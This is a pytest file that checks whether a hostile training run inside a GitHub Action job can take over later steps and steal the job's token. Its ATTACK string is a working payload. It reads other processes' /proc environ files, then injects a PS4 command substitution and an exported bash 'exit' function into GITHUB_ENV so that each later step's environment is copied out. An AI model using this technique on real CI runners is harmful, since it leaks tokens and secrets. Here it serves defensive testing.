"""A job of `native`, with the real gate, a real training and the action's own scripts: what a
hostile training takes with it."""

from __future__ import annotations

import os
import shutil
import sys
import sysconfig
from pathlib import Path

import pytest

from tests.support.composite import Job, steps
from tests.support.gates import LOOP, ROOT, environment, training
from tests.support.github.server import GitHub
from tests.support.repositories import git

TOKEN = "ghs_" + "S3cr3t" * 6
# Finds the file of the step's shell, as any process of the same user can, and makes it read-only.
# What stands in it meets each later step: bash then runs PS4 before each command, and a function in
# place of `exit`. As root, bash takes PS4 from nobody.
ATTACK = r"""
import glob, os
for name in glob.glob("/proc/[0-9]*/environ"):
    try:
        found = open(name, "rb").read().split(b"\0")
    except OSError:
        continue
    for item in found:
        path = item.removeprefix(b"GITHUB_ENV=")
        if path != item and path.startswith(b"{folder}/") and os.access(path, os.W_OK):
            with open(path, "w") as file:
                file.write("SHELLOPTS=xtrace\nPS4=$(cp /proc/self/environ {stolen}/ps4-$$)+ \n")
                file.write("BASH_FUNC_exit%%=() {{ cp /proc/self/environ {stolen}/exit-$$; builtin exit $1; }}\n")
            os.chmod(path, 0o400)
"""


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repository as GitHub unpacks an action, but with the gate's packages beside it: nothing
    has to be downloaded."""
    root = tmp_path_factory.mktemp("action")
    for path in Path(sysconfig.get_path("purelib")).iterdir():
        if path.suffix != ".pth" and not path.name.startswith(("torch", "nvidia", "repro_gate")):
            (root / path.name).symlink_to(path)
    for name in ("repro_gate", "docs"):
        (root / name).symlink_to(ROOT / name)
    for name in ("native", "comment"):
        shutil.copytree(ROOT / name, root / name)
    (root / "requirements").mkdir()
    (root / "requirements/gate.lock").write_text("# nothing\n")
    return root


def job_of(folder: Path, root: Path, action: str, github: GitHub) -> Job:
    """A job of a push on a runner without a container, by a user who is not root to the files'
    modes."""
    told = environment(
        CI="true",
        GITHUB_REPOSITORY=github.repository,
        GITHUB_EVENT_NAME="push",
        GITHUB_REF="refs/heads/topic",
        GITHUB_RUN_ID="4711",
        GITHUB_RUN_ATTEMPT="1",
        GITHUB_SERVER_URL="https://github.com",
        GITHUB_API_URL=github.url,
        GITHUB_GRAPHQL_URL=github.graphql_url,
        GITHUB_WORKFLOW="gate",
        GITHUB_JOB=action,
    )
    start = ("setpriv", "--bounding-set=-all", "--inh-caps=-all") if os.geteuid() == 0 else ()
    return Job(folder, told, root / action, start=start)


def check_out(job: Job, source: str) -> str:
    """A commit with this training; its hash."""
    workspace = training(job.folder / "workspace", source)
    git(workspace, "init", "-q")
    git(workspace, "add", "-A")
    git(workspace, "commit", "-qm", "change", "--allow-empty")
    job.environment["GITHUB_SHA"] = git(workspace, "rev-parse", "HEAD")
    return job.environment["GITHUB_SHA"]


@pytest.mark.skipif(
    sys.platform != "linux" or not shutil.which("setpriv"),
    reason="/proc, and setpriv of util-linux",
)
def test_a_training_that_takes_over_its_job_finds_no_token(root: Path, tmp_path: Path) -> None:
    stolen = tmp_path / "stolen"
    stolen.mkdir()
    with GitHub() as github:
        job = job_of(tmp_path / "runner", root, "native", github)
        check_out(job, ATTACK.format(folder=job.folder, stolen=stolen) + LOOP)
        for name in steps("native"):
            ended = job.run("native", name, {"python": sys.executable, "token": TOKEN})
        assert ended.returncode == 0, ended.stdout + ended.stderr
        assert job.outputs["gate"]["verdict"] == "pass" and github.requests == []
        assert list(stolen.iterdir()) == []
        job.run_step("later", {"run": "exit 0", "env": {"CANARY": "of a later step"}}, {})
    taken = "".join(path.read_text() for path in stolen.iterdir())
    assert "of a later step" in taken, "the attack itself works: put nothing behind `native`"
    assert TOKEN not in taken
